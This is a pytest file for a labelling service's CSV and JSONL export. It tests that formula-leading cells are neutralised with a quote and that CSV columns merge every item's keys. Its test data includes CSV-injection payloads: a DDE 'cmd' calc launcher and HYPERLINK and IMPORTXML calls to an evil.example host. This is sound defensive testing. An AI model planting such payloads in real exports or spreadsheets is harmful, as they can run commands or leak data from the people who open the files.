"""CSV export: cells a spreadsheet would run are neutralised (JSON exports stay exact), and the
columns are the union of every item's payload keys."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from app.core.csv_cells import spreadsheet_safe
from app.core.db import Database
from app.jobs import export
from app.models import Item
from tests.jobs.factories import active_job, create_job, draft_job, jsonl, upload
from tests.jobs.test_export import answer_all
from tests.support import Account

TRANSCRIBE = {
    "controls": [
        {"name": "words", "type": "text", "field": "text"},
    ]
}
FORMULAS = [
    '=HYPERLINK("http://evil.example","click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "-1+2",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", "-12", "+0.5", "-1e-3", ".5", "a=b", "'quoted"])
def test_plain_text_and_plain_numbers_are_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def _export(client: TestClient, owner: Account, job_id: int, fmt: str) -> str:
    response = client.get(f"/v1/jobs/{job_id}/export?format={fmt}", headers=owner.headers)
    assert response.status_code == 200, response.text
    return response.text


def test_formulas_from_clients_and_annotators_are_neutralised_in_csv_and_exact_in_jsonl(
    client: TestClient,
    client_account: Account,
    make_account: Callable[..., Account],
    db: Database,
) -> None:
    rows = [
        {"external_id": formula, "text": formula, "n": -5 - i, "neg": "-7"}
        for i, formula in enumerate(FORMULAS)
    ]
    job_id = active_job(
        client, client_account, rows, label_schema=TRANSCRIBE, consensus_method="majority_vote"
    )
    annotators = [make_account("annotator") for _ in range(3)]
    typed = '=IMPORTXML("http://evil.example","//a")'
    answer_all(db, job_id, annotators, lambda n, _: {"words": typed})

    table = list(csv.DictReader(io.StringIO(_export(client, client_account, job_id, "csv"))))
    assert [r["external_id"] for r in table] == ["'" + f for f in FORMULAS]
    assert [r["data.text"] for r in table] == ["'" + f for f in FORMULAS]
    assert {r["consensus.words"] for r in table} == {"'" + typed}
    assert [r["data.n"] for r in table] == [str(-5 - i) for i in range(len(FORMULAS))]
    assert {r["data.neg"] for r in table} == {"-7"}  # a plain number, even as a string
    for row in table:
        assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
        assert json.loads(row["answers"])[0]["answer"] == {"words": typed}

    records = [
        json.loads(line) for line in _export(client, client_account, job_id, "jsonl").splitlines()
    ]
    assert [r["external_id"] for r in records] == FORMULAS
    assert [r["data"]["text"] for r in records] == FORMULAS
    assert {r["consensus"]["words"] for r in records} == {typed}


def test_csv_columns_are_the_union_of_every_items_keys_in_order_of_first_appearance(
    client: TestClient, client_account: Account
) -> None:
    job_id = create_job(client, client_account)
    rows = [
        {"external_id": "a", "text": "first", "b": 1, "a": 2},
        {"external_id": "b", "text": "second", "late": "only here"},
        {"external_id": "c", "text": "third", "z": True, "b": 3, "c": None},
    ]
    assert upload(client, client_account, job_id, jsonl(rows)).status_code == 201

    reader = csv.DictReader(io.StringIO(_export(client, client_account, job_id, "csv")))
    table = list(reader)
    data_columns = [name for name in reader.fieldnames or [] if name.startswith("data.")]
    assert data_columns == ["data.a", "data.b", "data.text", "data.late", "data.c", "data.z"]
    assert table[1]["data.late"] == "only here"
    assert table[0]["data.late"] == ""
    assert [r["data.b"] for r in table] == ["1", "", "3"]


def test_csv_of_a_job_without_items_is_the_header_alone(
    client: TestClient, client_account: Account
) -> None:
    job_id = create_job(client, client_account)
    text = _export(client, client_account, job_id, "csv")
    assert text.splitlines() == [
        "item_id,external_id,consensus.sentiment,confidence,answer_count,answers"
    ]


@pytest.mark.commits  # the import commits on another connection while the export reads
def test_an_item_imported_while_the_csv_streams_cannot_bring_a_column_the_header_lacks(
    client: TestClient, client_account: Account, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    job_id = draft_job(client, client_account, [{"external_id": "a", "text": "first"}])
    read_keys = export.payload_keys

    def keys_then_a_new_item(*args: Any) -> list[str]:
        keys = read_keys(*args)
        with db.transaction() as session:  # another client's import commits meanwhile
            session.add(Item(job_id=job_id, external_id="b", payload={"text": "x", "new": 1}))
        return keys

    monkeypatch.setattr(export, "payload_keys", keys_then_a_new_item)
    reader = csv.DictReader(io.StringIO(_export(client, client_account, job_id, "csv")))
    assert [row["external_id"] for row in reader] == ["a"]  # the rows' snapshot is the keys'
    assert "data.new" not in (reader.fieldnames or [])
    with db.read_session() as session:
        assert session.scalar(select(func.count()).select_from(Item)) == 2
